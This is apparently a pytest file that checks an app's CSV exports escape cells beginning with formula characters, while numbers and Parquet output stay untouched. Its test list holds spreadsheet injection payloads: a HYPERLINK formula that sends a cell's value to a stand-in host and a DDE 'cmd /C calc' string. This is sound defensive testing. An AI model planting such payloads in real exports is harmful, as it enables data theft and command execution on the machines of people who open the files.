"""CSV cells never start a spreadsheet formula: every CSV the app hands out (the at-risk export,
every per-figure download) prefixes text cells that begin with =, +, -, @, tab or carriage
return with a quote, and leaves numbers and the Parquet export as they are."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow.parquet as pq
import pytest

import app.components
from app.csv_cells import escape_cell, frame_csv, table_csv
from app.data import at_risk as at_risk_data
from tests.app.page_support import source

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1)', "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1)",
           "\t=1", "\r=1"]  # fmt: skip
HARMLESS = ["plain", "a=b", "", " =1 (leading space)", "€5"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))


def no_formula(rows: list[list[str]]) -> bool:
    return not any(cell.startswith(STARTS) for row in rows for cell in row)


def test_the_rule_on_single_cells() -> None:
    for text in HOSTILE:
        assert escape_cell(text) == "'" + text
    for text in HARMLESS:
        assert escape_cell(text) == text


def test_a_frame_escapes_text_and_keeps_numbers() -> None:
    frame = pd.DataFrame(
        {"name": [*HOSTILE, *HARMLESS[:1]], "change": [-20.5, -1, 0, 3, -7, 1, -2]}
    )
    rows = cells(frame_csv(frame))
    assert rows[0] == ["name", "change"]
    assert no_formula([r[:1] for r in rows])
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE] + ["plain"]
    assert [float(r[1]) for r in rows[1:]] == list(frame["change"])  # negative numbers stay


def test_an_arrow_table_follows_the_same_rule() -> None:
    import pyarrow as pa

    table = pa.table({"name": [*HOSTILE, *HARMLESS, None], "n": list(range(-5, 7))})
    rows = cells(table_csv(table))
    assert [r[0] for r in rows[1:]] == [escape_cell(t) for t in [*HOSTILE, *HARMLESS]] + [""]
    assert [int(r[1]) for r in rows[1:]] == list(range(-5, 7))


def test_every_per_figure_download_is_escaped(monkeypatch: pytest.MonkeyPatch) -> None:
    """`components.csv_download` (behind every page's CSV button) hands out escaped bytes."""
    handed: dict[str, bytes] = {}
    monkeypatch.setattr(
        app.components.st, "download_button", lambda label, body, **kw: handed.update({label: body})
    )
    frame = pd.DataFrame({"name": HOSTILE, "members": range(len(HOSTILE))})
    app.components.csv_download(frame, "campaigns.csv", "Download (CSV)", key="k")
    rows = cells(handed["Download (CSV)"])
    assert no_formula(rows) and [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]


def test_the_at_risk_export_is_escaped_and_parquet_unchanged(snapshot_home: Path) -> None:
    reason = '=HYPERLINK("http://x.example")'
    with duckdb.connect(str(snapshot_home / "serving.duckdb")) as con:
        con.execute(
            "update ml.churn_scores set top_reasons = [?], offer_type = '@offer' "
            "where customer_id = 'c1'",
            [reason],
        )
    csv_rows = cells(at_risk_data.export_selection(source(), at_risk_data.ScoreFilters(), "csv"))
    assert no_formula(csv_rows)
    header, first = csv_rows[0], csv_rows[1]
    assert first[header.index("customer_id")] == "c1"
    assert first[header.index("top_reasons")] == "'" + reason
    assert first[header.index("offer_type")] == "'@offer"
    parquet = pq.read_table(
        io.BytesIO(at_risk_data.export_selection(source(), at_risk_data.ScoreFilters(), "parquet"))
    ).to_pandas()
    assert parquet.iloc[0]["top_reasons"] == reason and parquet.iloc[0]["offer_type"] == "@offer"
